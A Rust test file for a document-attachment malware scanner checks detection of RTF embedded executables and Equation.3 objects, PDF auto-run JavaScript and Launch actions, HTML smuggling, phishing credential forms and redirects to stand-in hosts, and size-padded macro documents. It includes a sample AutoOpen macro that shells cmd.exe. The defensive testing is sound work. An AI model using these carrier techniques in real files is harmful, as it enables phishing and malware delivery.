//! Issue 4 document carriers through `tenpu::check`: RTF objects, PDF active content, HTML
//! smuggling and padded files (built in code), plus the RTF/PDF/HTML files of the corpus.

mod common;

use std::time::Instant;

use common::{docgen, olegen, zipgen};
use tenpu::{Options, Report, Severity, Verdict};

const DROPPER: &str =
    "Sub AutoOpen()\r\n    Dim r\r\n    r = Shell(\"cmd /c calc.exe\", vbHide)\r\nEnd Sub\r\n";
const MIB: usize = 1024 * 1024;

fn check(bytes: &[u8], name: &str) -> Report {
    tenpu::check(bytes, name, &Options::default())
}

fn dump(r: &Report) -> String {
    r.findings
        .iter()
        .map(|f| {
            format!(
                "{} {:?} @{} {:?}: {}",
                f.code, f.severity, f.location, f.tags, f.evidence
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn find<'r>(r: &'r Report, code: &str, at: &str) -> &'r tenpu::Finding {
    r.findings
        .iter()
        .find(|f| f.code == code && f.location.to_string() == at)
        .unwrap_or_else(|| panic!("no {code} at {at}:\n{}", dump(r)))
}

fn has(r: &Report, code: &str) -> bool {
    r.findings.iter().any(|f| f.code == code)
}

// ---- RTF ----

#[test]
fn rtf_package_with_exe_is_recursed() {
    let pe = zipgen::tiny_pe();
    let r = check(&docgen::rtf_with_package("invoice.exe", &pe), "請求書.rtf");
    let f = find(&r, "rtf.embedded_object", "請求書.rtf");
    assert!(f.evidence.contains("class \"Package\""), "{}", f.evidence);
    assert!(
        f.evidence.contains("invoice.exe") && f.evidence.contains(&format!("{} bytes", pe.len())),
        "{}",
        f.evidence
    );
    assert!(f.tags.contains(&"package"));
    assert_eq!(f.severity, Severity::Medium);
    find(&r, "file.executable", "請求書.rtf > invoice.exe");
    assert_eq!(r.verdict, Verdict::Dangerous);
    assert!(r.complete);
    let o = r
        .objects
        .iter()
        .find(|o| o.location.to_string() == "請求書.rtf > invoice.exe")
        .unwrap();
    assert_eq!(o.size, pe.len() as u64);
}

#[test]
fn rtf_package_with_macro_doc_gets_office_checks() {
    let doc = olegen::vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let r = check(&docgen::rtf_with_package("資料.doc", &doc), "x.rtf");
    find(&r, "office.vba_autoexec", "x.rtf > 資料.doc > Module1");
    assert_eq!(r.verdict, Verdict::Dangerous);
}

#[test]
fn rtf_equation_is_high() {
    let r = check(&docgen::rtf_equation(), "x.doc");
    let f = find(&r, "rtf.embedded_object", "x.doc");
    assert_eq!(f.severity, Severity::High, "{}", dump(&r));
    assert!(
        f.tags.contains(&"equation") && f.tags.contains(&"objupdate"),
        "{:?}",
        f.tags
    );
    assert!(
        f.evidence.contains("Equation.3") && f.evidence.contains("obfuscated"),
        "{}",
        f.evidence
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
}

#[test]
fn rtf_equation_found_by_clsid_alone() {
    // Class name hidden (`\objclass` empty, OLE header class renamed): the CLSID still shows.
    let mut native = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    native.extend_from_slice(&[
        0x02, 0xCE, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46,
    ]);
    let data = docgen::ole1("xyz", &native);
    let hex: String = data.iter().map(|b| format!("{b:02X}")).collect();
    let rtf = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {hex}}}}}}}");
    let r = check(rtf.as_bytes(), "x.rtf");
    assert!(
        find(&r, "rtf.embedded_object", "x.rtf")
            .tags
            .contains(&"equation"),
        "{}",
        dump(&r)
    );
}

#[test]
fn rtf_without_objects_has_no_findings() {
    let r = check(
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard \\'82\\'b1\\'82\\'f1 hello {\\b bold}\\par}",
        "memo.rtf",
    );
    assert!(r.findings.is_empty(), "{}", dump(&r));
    assert_eq!(r.verdict, Verdict::NoFindings);
    assert!(r.complete);
}

// ---- PDF ----

#[test]
fn pdf_with_one_hyperlink_is_not_dangerous() {
    let r = check(&docgen::pdf_with(false, false, None), "案内.pdf");
    let f = find(&r, "pdf.active_content", "案内.pdf");
    assert_eq!(f.severity, Severity::Info);
    assert!(
        f.evidence
            .contains("https://www.example.co.jp/news/2024.html"),
        "{}",
        f.evidence
    );
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
    assert!(r.complete);
}

#[test]
fn pdf_javascript_on_open_hidden_in_object_stream() {
    let pdf = docgen::pdf_with(true, false, None);
    // The action is only inside the compressed object stream.
    assert!(!pdf.windows(4).any(|w| w == b"/J#6" || w == b"/JS "));
    let r = check(&pdf, "x.pdf");
    let f = find(&r, "pdf.active_content", "x.pdf");
    assert_eq!(f.severity, Severity::High, "{}", dump(&r));
    for t in ["javascript", "auto", "obfuscated"] {
        assert!(f.tags.contains(&t), "{t}: {:?}", f.tags);
    }
    assert!(
        f.evidence
            .contains("/JavaScript (written with #xx escapes)"),
        "{}",
        f.evidence
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
}

#[test]
fn pdf_launch_is_high() {
    let r = check(&docgen::pdf_with(false, true, None), "x.pdf");
    let f = find(&r, "pdf.active_content", "x.pdf");
    assert_eq!(f.severity, Severity::High);
    assert!(f.tags.contains(&"launch"));
    assert!(f.evidence.contains("cmd.exe"), "{}", f.evidence);
}

#[test]
fn pdf_embedded_file_is_checked_like_an_attachment() {
    let pe = zipgen::tiny_pe();
    let r = check(
        &docgen::pdf_with(false, false, Some(("update.exe", &pe))),
        "x.pdf",
    );
    let f = find(&r, "pdf.active_content", "x.pdf");
    assert_eq!(f.severity, Severity::Medium);
    assert!(f.tags.contains(&"embedded"));
    find(&r, "file.executable", "x.pdf > update.exe");
    assert_eq!(r.verdict, Verdict::Dangerous);
    let o = r
        .objects
        .iter()
        .find(|o| o.location.to_string() == "x.pdf > update.exe")
        .unwrap();
    assert_eq!(o.size, pe.len() as u64);
}

#[test]
fn encrypted_pdf_names_still_checked_streams_incomplete() {
    let mut pdf = docgen::pdf_with(true, false, None);
    let at = pdf.windows(7).position(|w| w == b"trailer").unwrap();
    pdf.splice(
        at..at,
        b"10 0 obj\n<< /Filter /Standard /V 2 /R 3 >>\nendobj\n"
            .iter()
            .copied(),
    );
    let pdf = String::from_utf8_lossy(&pdf)
        .replace("<< /Root 1 0 R >>", "<< /Root 1 0 R /Encrypt 10 0 R >>");
    let r = check(pdf.as_bytes(), "x.pdf");
    let f = find(&r, "pdf.active_content", "x.pdf");
    assert!(
        f.tags.contains(&"encrypted") && f.tags.contains(&"auto"),
        "{:?}",
        f.tags
    );
    assert!(f.evidence.contains("could not be read"), "{}", f.evidence);
    assert!(!r.complete);
}

// ---- HTML ----

#[test]
fn html_smuggling_zip_with_exe() {
    let z = zipgen::plain(&[("請求書.exe", &zipgen::tiny_pe())]);
    let r = check(&docgen::html_smuggling(&z), "請求書.html");
    let f = find(&r, "file.html_smuggling", "請求書.html");
    assert_eq!(f.severity, Severity::High);
    assert!(f.tags.contains(&"smuggling"));
    for s in [
        "atob()",
        "new Blob()",
        "URL.createObjectURL",
        "download attribute",
        "scripted click",
    ] {
        assert!(f.evidence.contains(s), "{s}: {}", f.evidence);
    }
    find(
        &r,
        "file.executable",
        "請求書.html > smuggled.zip > 請求書.exe",
    );
    assert_eq!(r.verdict, Verdict::Dangerous);
}

#[test]
fn html_newsletter_is_not_flagged() {
    let r = check(&docgen::html_newsletter(), "newsletter.html");
    assert!(r.findings.is_empty(), "{}", dump(&r));
    assert_eq!(r.verdict, Verdict::NoFindings);
}

#[test]
fn html_credential_form_and_redirect() {
    let page = br#"<html><body><form method="post" action="https://login-microsoftonline.example.ru/post.php">
<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form></body></html>"#;
    let r = check(page, "Voicemail.htm");
    let f = find(&r, "file.html_smuggling", "Voicemail.htm");
    assert!(f.tags.contains(&"credential_form"));
    assert!(
        f.evidence.contains("login-microsoftonline.example.ru"),
        "{}",
        f.evidence
    );
    // A login form posting to a relative path (a saved intranet page) is not reported.
    let local = br#"<html><form action="/login" method="post"><input type="password" name="p"></form></html>"#;
    assert!(!has(&check(local, "a.html"), "file.html_smuggling"));
    let redirect = b"<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/x\"></head></html>";
    let r = check(redirect, "a.html");
    assert!(find(&r, "file.html_smuggling", "a.html")
        .tags
        .contains(&"redirect"));
    let js =
        b"<html><script>window.location.replace('https://evil.example/p?e=a@b.jp')</script></html>";
    assert!(has(&check(js, "a.html"), "file.html_smuggling"));
}

// ---- padded files ----

#[test]
fn padded_doc_file_is_trimmed_and_checked() {
    let doc = olegen::vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let r = check(&docgen::padded(&doc, 12 * MIB), "invoice.doc");
    let f = find(&r, "file.padded", "invoice.doc");
    assert_eq!(f.severity, Severity::High);
    assert!(
        f.evidence
            .contains(&format!("ends at offset {}", doc.len()))
            || f.evidence.contains("byte 0x00"),
        "{}",
        f.evidence
    );
    find(&r, "office.vba_autoexec", "invoice.doc > Module1");
    assert!(r.complete);
    // A small zero tail (under 8 MiB) is not padding.
    let r = check(&docgen::padded(&doc, MIB), "invoice.doc");
    assert!(!has(&r, "file.padded"), "{}", dump(&r));
    // A file of zeros alone has no front: nothing to report as padding.
    assert!(!has(
        &check(&vec![0u8; 10 * MIB], "zeros.bin"),
        "file.padded"
    ));
}

#[test]
fn padded_doc_in_zip_300mib() {
    let doc = olegen::vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let t = Instant::now();
    let z = docgen::padded_zip("請求書.doc", &doc, 300 * MIB as u64);
    eprintln!("built {} byte zip in {:?}", z.len(), t.elapsed());
    let opts = Options::default();
    let t = Instant::now();
    let r = tenpu::check(&z, "請求書.zip", &opts);
    eprintln!("padded 300 MiB zip checked in {:?}", t.elapsed());
    let f = find(&r, "file.padded", "請求書.zip > 請求書.doc");
    assert!(f.evidence.contains("not inflated"), "{}", f.evidence);
    find(
        &r,
        "office.vba_autoexec",
        "請求書.zip > 請求書.doc > Module1",
    );
    assert!(!has(&r, "archive.limit_exceeded"), "{}", dump(&r));
    assert_eq!(r.verdict, Verdict::Dangerous);
    // Within the inflate budget: a budget of 64 MiB still gives the same answer.
    let small = Options {
        limits: tenpu::Limits {
            max_total_inflated: 64 * MIB as u64,
            ..Default::default()
        },
        ..Default::default()
    };
    let r2 = tenpu::check(&z, "請求書.zip", &small);
    assert!(
        has(&r2, "file.padded") && has(&r2, "office.vba_autoexec"),
        "{}",
        dump(&r2)
    );
}

#[test]
fn padded_doc_in_zip_600mb_is_not_inflated_whole() {
    let doc = olegen::vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let z = docgen::padded_zip("請求書.doc", &doc, 600_000_000);
    let t = Instant::now();
    let r = check(&z, "請求書.zip");
    let took = t.elapsed();
    eprintln!("padded 600 MB zip checked in {took:?}");
    let f = find(&r, "file.padded", "請求書.zip > 請求書.doc");
    assert!(
        f.evidence
            .contains(&format!("declared as {} bytes", doc.len() + 600_000_000)),
        "{}",
        f.evidence
    );
    find(
        &r,
        "office.vba_autoexec",
        "請求書.zip > 請求書.doc > Module1",
    );
    let o = r
        .objects
        .iter()
        .find(|o| o.location.to_string() == "請求書.zip > 請求書.doc")
        .unwrap();
    assert!(o.size < 2 * MIB as u64, "front handed on: {}", o.size);
}

#[test]
fn zeros_bomb_is_not_padding() {
    // The same size of zeros without a document in front: still a size limit, not file.padded.
    let z = docgen::padded_zip("zeros.bin", b"", 300 * MIB as u64);
    let r = check(&z, "x.zip");
    assert!(!has(&r, "file.padded"), "{}", dump(&r));
    assert!(has(&r, "archive.limit_exceeded"), "{}", dump(&r));
    assert!(!r.complete);
}

// ---- corpus ----

#[test]
fn corpus_documents_never_panic() {
    let Some(root) = common::corpus_dir() else {
        eprintln!("skipping: ../shared/corpus absent");
        return;
    };
    let files: Vec<_> = common::files_under(&root)
        .into_iter()
        .filter(|p| {
            p.extension().and_then(|e| e.to_str()).is_some_and(|e| {
                matches!(
                    e.to_ascii_lowercase().as_str(),
                    "rtf" | "pdf" | "html" | "htm"
                )
            })
        })
        .collect();
    let (mut with_findings, mut objects) = (0, 0);
    for p in &files {
        let bytes = std::fs::read(p).unwrap();
        let name = p.file_name().unwrap().to_string_lossy().to_string();
        let r = check(&bytes, &name);
        let n = r
            .findings
            .iter()
            .filter(|f| f.code == "rtf.embedded_object")
            .count();
        objects += n;
        if !r.findings.is_empty() {
            with_findings += 1;
        }
        eprintln!(
            "{} {:?} {}",
            p.strip_prefix(&root).unwrap().display(),
            r.verdict,
            r.findings
                .iter()
                .map(|f| f.code)
                .collect::<Vec<_>>()
                .join(",")
        );
    }
    eprintln!(
        "{} RTF/PDF/HTML files, {with_findings} with findings, {objects} RTF objects",
        files.len()
    );

    // oletools rtfobj regression files: the Equation.3 exploit sample (issue 251) and the
    // truncated object with a `\bin` run (issue 185).
    let f251 = root.join("oletools/test-data/rtfobj/issue_251.rtf");
    if f251.is_file() {
        let r = check(&std::fs::read(&f251).unwrap(), "issue_251.rtf");
        let f = find(&r, "rtf.embedded_object", "issue_251.rtf");
        assert!(f.tags.contains(&"equation"), "{}", dump(&r));
        assert_eq!(r.verdict, Verdict::Dangerous);
    }
    let f185 = root.join("oletools/decrypted/rtfobj/issue_185.rtf");
    if f185.is_file() {
        let r = check(&std::fs::read(&f185).unwrap(), "issue_185.rtf");
        let f = find(&r, "rtf.embedded_object", "issue_185.rtf");
        assert!(f.tags.contains(&"objupdate"), "{}", dump(&r));
    }
}

#[test]
fn pdf_form_field_javascript_is_medium_not_high() {
    // A fillable form: a format action in a field's /AA and a destination /OpenAction.
    let pdf = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction [3 0 R /Fit] /AcroForm << /Fields [4 0 R] >> >>\nendobj\n\
4 0 obj\n<< /FT /Tx /T (amount) /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(0, 0, 0, 0, \"\", true\\);) >> /K 5 0 R >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
    let r = check(pdf, "申請書.pdf");
    let f = find(&r, "pdf.active_content", "申請書.pdf");
    assert_eq!(f.severity, Severity::Medium, "{}", dump(&r));
    assert!(!f.tags.contains(&"auto"));
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn padded_doc_stored_in_zip() {
    // Stored (not deflated): the padding is in the archive itself; scanned, nothing inflated.
    let doc = olegen::vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let z = zipgen::stored(&[("a.doc", &docgen::padded(&doc, 101 * MIB))]);
    let r = check(&z, "x.zip");
    let f = find(&r, "file.padded", "x.zip > a.doc");
    assert!(f.evidence.contains("goes on to the end"), "{}", f.evidence);
    find(&r, "office.vba_autoexec", "x.zip > a.doc > Module1");
    assert!(r.complete);
}

#[test]
fn damaged_documents_never_panic() {
    let pe = zipgen::tiny_pe();
    let doc = olegen::vba_doc(&[("Module1", DROPPER)]);
    let samples: Vec<(&str, Vec<u8>)> = vec![
        ("a.rtf", docgen::rtf_with_package("a.exe", &pe)),
        ("b.rtf", docgen::rtf_equation()),
        ("c.pdf", docgen::pdf_with(true, true, Some(("x.doc", &doc)))),
        (
            "d.html",
            docgen::html_smuggling(&zipgen::plain(&[("a.exe", &pe)])),
        ),
    ];
    let mut runs = 0;
    for (name, s) in &samples {
        let step = (s.len() / 97).max(1);
        for cut in (0..s.len()).step_by(step) {
            check(&s[..cut], name);
            let mut m = s.clone();
            m[cut] ^= 0x5A;
            check(&m, name);
            let mut m = s.clone();
            m[cut] = b'{';
            check(&m, name);
            runs += 3;
        }
    }
    eprintln!("{runs} damaged documents checked");
}

#[test]
fn hostile_repetition_stays_fast() {
    let t = Instant::now();
    let mut rtf = b"{\\rtf1".to_vec();
    rtf.extend(std::iter::repeat_n(b'{', 200_000));
    for _ in 0..20_000 {
        rtf.extend_from_slice(b"\\object\\objdata 0\\bin1 x");
    }
    check(&rtf, "x.rtf");
    eprintln!("rtf {:?}", t.elapsed());
    let mut pdf = b"%PDF-1.7\n".to_vec();
    for _ in 0..100_000 {
        pdf.extend_from_slice(b"/AA << /K 1 0 R /URI (http://a) /EF stream\n");
    }
    check(&pdf, "x.pdf");
    eprintln!("pdf {:?}", t.elapsed());
    let mut html = b"<html><script>".to_vec();
    for _ in 0..100_000 {
        html.extend_from_slice(b"String.fromCharCode(1,2,3 location.href=http <form action=");
    }
    check(&html, "x.html");
    let took = t.elapsed();
    eprintln!("hostile repetition: {took:?}");
    assert!(took.as_secs() < 60, "{took:?}");
}

#[test]
fn padded_doc_in_password_zip() {
    let doc = olegen::vba_doc(&[("ThisDocument", ""), ("Module1", DROPPER)]);
    let z = docgen::padded_zip_with("請求書.doc", &doc, 150 * MIB as u64, Some("1234"));
    let opts = Options {
        passwords: vec!["wrong".into(), "1234".into()],
        ..Default::default()
    };
    let t = Instant::now();
    let r = tenpu::check(&z, "x.zip", &opts);
    eprintln!("padded 150 MiB ZipCrypto zip checked in {:?}", t.elapsed());
    find(&r, "file.padded", "x.zip > 請求書.doc");
    find(&r, "office.vba_autoexec", "x.zip > 請求書.doc > Module1");
    assert!(!has(&r, "archive.encrypted"), "{}", dump(&r));
    // Without the password it stays closed and says so.
    let r = check(&z, "x.zip");
    assert!(
        has(&r, "archive.encrypted") || has(&r, "archive.limit_exceeded"),
        "{}",
        dump(&r)
    );
    assert!(!r.complete);
}

#[test]
fn padded_zip_file_is_trimmed_and_opened() {
    // A ZIP with zeros appended after its end record: trimmed, its entries still checked.
    let z = zipgen::plain(&[("a.exe", &zipgen::tiny_pe())]);
    let r = check(&docgen::padded(&z, 9 * MIB), "x.zip");
    find(&r, "file.padded", "x.zip");
    find(&r, "file.executable", "x.zip > a.exe");
    assert!(!has(&r, "archive.malformed"), "{}", dump(&r));
}
